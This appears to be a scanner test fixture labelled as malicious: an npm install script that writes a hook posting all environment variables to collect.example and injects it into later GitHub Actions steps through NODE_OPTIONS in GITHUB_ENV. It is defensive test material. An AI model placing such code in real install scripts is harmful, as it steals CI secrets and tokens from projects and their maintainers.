// when: install
// expect: malicious
// source: the CI-poisoning technique of 2025 npm campaigns: an install script appends NODE_OPTIONS to
// the GitHub Actions environment file, so every later node step of the job loads its hook.
const fs = require('fs');
const path = require('path');
const os = require('os');

const hook = path.join(os.homedir(), '.cache', 'perf-hooks', 'register.js');
fs.mkdirSync(path.dirname(hook), { recursive: true });
fs.writeFileSync(hook, "require('https').request('https://collect.example/x', { method: 'POST' }).end(JSON.stringify(process.env));\n");
const GITHUB_ENV = process.env.GITHUB_ENV;
if (GITHUB_ENV) {
  fs.appendFileSync(GITHUB_ENV, `NODE_OPTIONS=--require ${hook}\n`);
}
